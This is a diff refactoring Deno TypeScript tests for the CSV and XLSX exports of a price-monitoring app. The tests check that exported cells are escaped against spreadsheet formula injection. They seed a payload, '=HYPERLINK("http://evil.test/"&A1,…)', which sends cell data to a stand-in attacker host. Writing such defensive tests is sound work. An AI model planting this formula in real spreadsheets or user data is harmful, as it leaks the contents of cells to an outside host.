@@ -15,7 +15,7 @@ import { startTestApp, type TestApp } from "../harness.ts";
 import { startErp } from "../market/export/erp.ts";
 import { sheetsOf } from "../read_workbook.ts";
 import { ended, withScrapingApp } from "../scraping/scraping_app.ts";
-import { everyItem, refusalOf, refuses } from "./answers.ts";
+import { column, everyItem, refusalOf, refuses, valuesOf } from "./answers.ts";
 
 const RUNS = '=HYPERLINK("http://evil.test/"&A1,"x")';
 
@@ -23,11 +23,11 @@ type Row = Readonly<Record<string, unknown>>;
 
 interface FiledList {
   readonly path: string;
-  readonly queries: readonly string[];
-  /** The value that identifies a row of the list; `idIn` is its column in the file. */
-  readonly idOf: (row: Row) => unknown;
-  readonly idIn: string;
-  /** The column with a text that a spreadsheet would run as a formula. */
+  /** By default, the list is read without a query. */
+  readonly queries?: readonly string[];
+  /** The field that identifies a row, and its column in the file; `id` by default. */
+  readonly idIn?: string;
+  /** The column with a text that a spreadsheet would run as a formula; null if there is none. */
   readonly hostileIn: string | null;
   /** True if the list has no pages. */
   readonly isWhole?: boolean;
@@ -35,27 +35,16 @@ interface FiledList {
   readonly words: Readonly<Record<string, keyof ReturnType<typeof codeWords>>>;
 }
 
-const byId = { idOf: ({ id }: Row) => id, idIn: "id" };
-
 const LISTS: readonly FiledList[] = [
   {
     path: "/api/alerts",
     queries: ["", "order=desc", "severity=high"],
-    ...byId,
     hostileIn: "title",
     words: { severity: "severities", mail: "mails" },
   },
-  {
-    path: "/api/competitors",
-    queries: [""],
-    ...byId,
-    hostileIn: "displayName",
-    words: { lastError: "scrapeErrors" },
-  },
+  { path: "/api/competitors", hostileIn: "displayName", words: { lastError: "scrapeErrors" } },
   {
     path: "/api/rules",
-    queries: [""],
-    ...byId,
     hostileIn: "name",
     isWhole: true,
     words: { trigger: "triggers", actions: "actions" },
@@ -63,29 +52,24 @@ const LISTS: readonly FiledList[] = [
   {
     path: "/api/scrape-runs",
     queries: ["", "order=desc", "status=failed"],
-    ...byId,
     hostileIn: "sku",
     words: { status: "jobStates", trigger: "runTriggers" },
   },
   {
     path: "/api/imports",
     queries: ["", "source=default", "source=other"],
-    idOf: ({ jobId }) => jobId,
     idIn: "jobId",
     hostileIn: null,
     words: { status: "jobStates", error: "findings", mode: "importModes" },
   },
   {
     path: "/api/import-sources",
-    queries: [""],
-    ...byId,
     hostileIn: "name",
     words: { kind: "sourceKinds", mode: "importModes", lastImport: "jobStates" },
   },
   {
     path: "/api/price-arrivals",
     queries: ["", "status=missing", "status=waiting"],
-    idOf: ({ productId }) => productId,
     idIn: "productId",
     hostileIn: null,
     words: { status: "arrivals" },
@@ -93,14 +77,12 @@ const LISTS: readonly FiledList[] = [
   {
     path: "/api/proposals",
     queries: ["", "status=open&sort=effect", "status=open&direction=up", "order=desc"],
-    ...byId,
     hostileIn: "title",
     words: { status: "proposalStatuses", effectBasis: "effectBases" },
   },
   {
     path: "/api/market/moves",
     queries: ["", "kind=new_offer", "kind=up", "hasCategory=true"],
-    ...byId,
     hostileIn: "title",
     isWhole: true,
     words: { kind: "moveKinds" },
@@ -122,16 +104,16 @@ async function fill(app: TestApp): Promise<void> {
   ];
   await addRule(owner, { name: RUNS, priority: 7, actions });
   await addRule(owner, { name: "Zweite", priority: 3, enabled: false });
-  for (const sku of ["=A", "B", "C"]) await addProduct(owner, sku, { title: RUNS, category: "K" });
+  const ids: string[] = [];
+  for (const sku of ["=A", "B", "C"]) {
+    ids.push(await addProduct(owner, sku, { title: RUNS, category: "K" }));
+  }
   await push(app, [["=A", "acme", 90], ["B", "acme", 80], ["C", "bolt", 95]]);
   await untilJudged(app);
   const { items } = await owner.read("/api/competitors");
-  const named = { displayName: RUNS };
-  await owner.change(`/api/competitors/${items[0].id}`, named);
+  await owner.change(`/api/competitors/${items[0].id}`, { displayName: RUNS });
   await owner.create("/api/import-sources", { id: "other", name: RUNS });
-  const products = await owner.read("/api/products?limit=200");
-  for (const { id, sku } of products.items) {
-    if (!["=A", "B", "C"].includes(sku)) continue;
+  for (const id of ids) {
     const { runId } = await app.manager.begin(`/api/products/${id}/scrape-now`);
     await ended(app, runId);
   }
@@ -146,46 +128,52 @@ async function listed(caller: Caller, { path, isWhole }: FiledList, query: strin
   return await everyItem(caller, `${path}?limit=2&${query}`);
 }
 
+async function cellsAt(caller: Caller, path: string): Promise<string[][]> {
+  return csvCells(await (await caller.get(path)).text(), ";");
+}
+
+async function sheetAt({ viewer }: TestApp, path: string): Promise<(string | null)[][]> {
+  const workbook = await viewer.get(path);
+  assertEquals(workbook.status, 200, path);
+  return (await sheetsOf(await workbook.bytes()))["1"] ?? [];
+}
+
 async function agrees(app: TestApp, stranger: Caller, list: FiledList): Promise<void> {
+  const { path, queries = [""], idIn = "id", hostileIn } = list;
   let seen = 0;
-  for (const query of list.queries) {
-    const where = `${list.path}?${query}`;
-    const rows = await listed(app.viewer, list, query);
-    const answer = await app.viewer.get(`${list.path}.csv?${query}`);
+  for (const query of queries) {
+    const where = `${path}?${query}`;
+    const ids = column(await listed(app.viewer, list, query), idIn);
+    const answer = await app.viewer.get(`${path}.csv?${query}`);
     assertEquals(answer.status, 200, where);
     match(answer.headers.get("Content-Disposition") ?? "", /^attachment; filename="[\w-]+\.csv"$/);
     const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
     ok(text.startsWith('\uFEFF"'), where);
     const [head = [], ...cells] = csvCells(text, ";");
-    const at = head.indexOf(list.idIn);
-    assertEquals(cells.map((row) => row[at]), rows.map(list.idOf), where);
+    const at = head.indexOf(idIn);
+    assertEquals(column(cells, at), ids, where);
     ok(cells.every((row) => row.length === head.length), where);
     for (const cell of cells.flat()) ok(!/^[=+@]/.test(cell), `${where}: ${cell}`);
-    const plain = await app.viewer.get(`${list.path}.csv?dialect=rfc4180&${query}`);
+    const plain = await app.viewer.get(`${path}.csv?dialect=rfc4180&${query}`);
     assertEquals(csvCells(await plain.text(), ",").length, cells.length + 1, where);
 
-    const workbook = await app.viewer.get(`${list.path}.xlsx?${query}`);
-    assertEquals(workbook.status, 200, where);
-    const { "1": sheet = [] } = await sheetsOf(new Uint8Array(await workbook.arrayBuffer()));
+    const sheet = await sheetAt(app, `${path}.xlsx?${query}`);
     assertEquals(sheet[0], head, where);
-    assertEquals(sheet.slice(1).map((row) => row[at]), rows.map(list.idOf), where);
-    const { hostileIn } = list;
+    assertEquals(column(sheet.slice(1), at), ids, where);
     if (hostileIn !== null && query === "") {
-      const column = head.indexOf(hostileIn);
-      ok(cells.some((row) => /^'=|^'?@/.test(row[column] ?? "")), `${where}: nothing hostile`);
+      const place = head.indexOf(hostileIn);
+      ok(cells.some((row) => /^'=|^'?@/.test(row[place] ?? "")), `${where}: nothing hostile`);
       // A workbook's text cells need no apostrophe.
-      ok(sheet.some((row) => row[column]?.startsWith("=")), where);
+      ok(sheet.some((row) => row[place]?.startsWith("=")), where);
     }
-    seen += rows.length;
-    const others = csvCells(await (await stranger.get(`${list.path}.csv?${query}`)).text(), ";");
-    const own = others.slice(1).map((row) => row[at] ?? "");
-    assertEquals(own.filter((id) => id !== "default" && rows.map(list.idOf).includes(id)), []);
+    seen += ids.length;
+    const [, ...others] = await cellsAt(stranger, `${path}.csv?${query}`);
+    assertEquals(column(others, at).filter((id) => id !== "default" && ids.includes(id)), []);
   }
-  ok(seen > 1, `${list.path}: ${seen} rows`);
+  ok(seen > 1, `${path}: ${seen} rows`);
   await isWorded(app, list);
   for (const query of ["limit=2", "cursor=x", "nothing=1", "lang=fr"]) {
-    await refusalOf(app.viewer.get(`${list.path}.csv?${query}`));
-    await refusalOf(app.viewer.get(`${list.path}.xlsx?${query}`));
+    for (const file of ["csv", "xlsx"]) await refusalOf(app.viewer.get(`${path}.${file}?${query}`));
   }
 }
 
@@ -201,8 +189,7 @@ const FLAGS: Record<string, readonly string[]> = { true: ["ja", "yes"], false: [
  * times and the sentences of rules.
  */
 async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void> {
-  const read = async (query: string) =>
-    csvCells(await (await app.viewer.get(`${path}.csv?${query}`)).text(), ";");
+  const read = (query: string) => cellsAt(app.viewer, `${path}.csv?${query}`);
   const [names = [], ...rows] = await read("");
   const [german, english] = [await read("lang=de"), await read("lang=en")];
   const rules = path === "/api/rules" ? await app.viewer.read(path) : [];
@@ -230,14 +217,14 @@ async function isWorded(app: TestApp, { path, words }: FiledList): Promise<void>
     ok(!head.includes(""), path);
   }
   assertEquals(german[0]?.filter((text) => names.includes(text)), [], path);
-  const workbook = await app.viewer.get(`${path}.xlsx?lang=de`);
-  const { "1": sheet = [] } = await sheetsOf(new Uint8Array(await workbook.arrayBuffer()));
+  const sheet = await sheetAt(app, `${path}.xlsx?lang=de`);
   assertEquals(sheet[0], german[0], path);
-  for (const column of Object.keys(words)) {
-    const at = names.indexOf(column);
-    const cells = (table: readonly (readonly (string | null)[])[]) =>
-      table.slice(1).map((row) => row[at] ?? "");
-    assertEquals(cells(sheet), cells(german), `${path} ${column}`);
+  for (const name of Object.keys(words)) {
+    const at = names.indexOf(name);
+    const [shown, written] = [sheet, german].map((rows) =>
+      rows.slice(1).map((row) => row[at] ?? "")
+    );
+    assertEquals(shown, written, `${path} ${name}`);
   }
 }
 
@@ -277,57 +264,51 @@ Deno.test("prices that wait and brakes are files of all that fits, without a for
   const stranger = await app.strangerOwner();
   await agrees(app, stranger, {
     path: "/api/quarantine",
-    queries: [""],
-    ...byId,
     hostileIn: "title",
     words: { code: "suspicions", outcome: "verdicts" },
   });
   await agrees(app, stranger, {
     path: "/api/brakes",
     queries: ["", `ruleId=${ruleId}`, "ruleId=none"],
-    idOf: ({ productId }) => productId,
     idIn: "productId",
     hostileIn: "rule",
     words: {},
   });
-  const first = (rows: readonly Map<string, string | undefined>[]) =>
-    rows.find((row) => row.get("sku") === "'=A");
-  const held = first(await rowsOfFile(app, "/api/quarantine.csv"));
+  const isFirst = ({ sku }: Row) => sku === "'=A";
+  const held = (await rowsOfFile(app, "/api/quarantine.csv")).filter(isFirst);
   assertEquals(
-    ["sku", "seen", "currency", "accepted", "code", "against", "outcome"].map((n) => held?.get(n)),
-    ["'=A", "45,00", "EUR", "99,00", "fell", "99,00", ""],
+    valuesOf(held, "seen", "currency", "accepted", "code", "against", "outcome"),
+    [["45,00", "EUR", "99,00", "fell", "99,00", ""]],
   );
-  const brake = first(await rowsOfFile(app, `/api/brakes.csv?ruleId=${ruleId}`));
+  const brakes = (await rowsOfFile(app, `/api/brakes.csv?ruleId=${ruleId}`)).filter(isFirst);
   assertEquals(
-    ["cuts", "before", "after", "reference", "currency"].map((name) => brake?.get(name)),
-    ["1", "100,00", "98,99", "99,00", "EUR"],
+    valuesOf(brakes, "cuts", "before", "after", "reference", "currency"),
+    [["1", "100,00", "98,99", "99,00", "EUR"]],
   );
 });
 
-async function rowsOfFile(app: TestApp, path: string) {
-  const [head = [], ...rows] = csvCells(await (await app.viewer.get(path)).text(), ";");
-  return rows.map((row) => new Map(head.map((name, at) => [name, row[at]])));
+async function rowsOfFile({ viewer }: TestApp, path: string): Promise<Row[]> {
+  const [head = [], ...rows] = await cellsAt(viewer, path);
+  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at]])));
 }
 
 withScrapingApp.test("amounts in files are in major units, and a run's results are a file, too", async (app) => {
   await fill(app);
   const arrivals = await rowsOfFile(app, "/api/price-arrivals.csv");
   assertEquals(
-    arrivals.map((row) => ["sku", "status", "expected", "seen", "currency"].map((n) => row.get(n))),
+    valuesOf(arrivals, "sku", "status", "expected", "seen", "currency"),
     [["P", "not_arrived", "11,00", "12,00", "EUR"], ["Q", "waiting", "21,00", "", "EUR"]],
   );
-  const [proposal] = await rowsOfFile(app, "/api/proposals.csv?status=open&sku=B");
-  assertEquals(["current", "proposed"].map((name) => proposal?.get(name)), ["100,00", "80,00"]);
+  const proposals = await rowsOfFile(app, "/api/proposals.csv?status=open&sku=B");
+  assertEquals(valuesOf(proposals, "current", "proposed"), [["100,00", "80,00"]]);
   const [first, second] = await rowsOfFile(app, "/api/rules.csv");
-  assertEquals([first?.get("name"), second?.get("priority")], ["Zweite", "7"]);
-  match(second?.get("sentence") ?? "", /^Wenn /);
+  assertEquals([first?.name, second?.priority], ["Zweite", "7"]);
+  match(String(second?.sentence), /^Wenn /);
 
   const [run] = (await app.viewer.read("/api/scrape-runs")).items;
   const results = await rowsOfFile(app, `/api/scrape-runs/${run.id}/results.csv`);
-  assertEquals(
-    results.map((row) => [row.get("url"), row.get("status"), row.get("errorCode")]),
-    run.results.map((one: Row) => [one.url, one.status, one.errorCode]),
-  );
+  const fields = ["url", "status", "errorCode"];
+  assertEquals(valuesOf(results, ...fields), valuesOf(run.results, ...fields));
   assertEquals(results.length, 1);
   for (const file of ["csv", "xlsx"]) {
     const path = `/api/scrape-runs/${"0".repeat(24)}/results.${file}`;
